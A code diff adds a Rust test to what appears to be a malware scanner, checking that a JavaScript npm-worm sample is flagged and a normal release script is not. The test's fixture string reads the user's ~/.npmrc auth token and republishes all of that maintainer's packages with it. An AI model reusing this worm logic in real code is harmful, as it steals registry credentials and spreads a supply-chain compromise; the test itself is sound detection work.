@@ -375,3 +375,26 @@ fn dsca811_user_rule_errors_are_one_line_with_file_and_line() {
         .to_string();
     assert!(err.contains("no .yar or .yara files"), "{err}");
 }
+
+#[test]
+fn dsca811_an_npm_worm_driving_the_npm_cli_is_a_worm_too() {
+    // The registry API calls of the fixture above, through the CLI: `npm whoami`, `npm
+    // search maintainer:…`, a patch bump and `npm publish` with the stolen token.
+    let worm = r#"const npmrc = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');
+const token = (npmrc.match(/_authToken=(.+)/) || [])[1];
+const who = execSync('npm whoami').toString().trim();
+for (const p of JSON.parse(execSync(`npm search --json maintainer:${who}`).toString())) {
+  execSync(`npm pack ${p.name}`);
+  execSync('npm version patch --no-git-tag-version');
+  execSync('npm publish', { env: { ...process.env, NPM_TOKEN: token } });
+}"#;
+    let fixture = library("lib/sync.js", worm);
+    assert_eq!(matched_rules(&fixture), ["dsca_npm_token_worm"]);
+    // A release script checks who is logged in, bumps and publishes its own package.
+    let release = r#"const token = process.env.NPM_TOKEN;
+execSync('npm whoami', { env: { ...process.env, NPM_TOKEN: token } });
+execSync('npm version patch');
+execSync('npm publish --access public');"#;
+    let fixture = library("scripts/release.js", release);
+    assert!(matched_rules(&fixture).is_empty());
+}
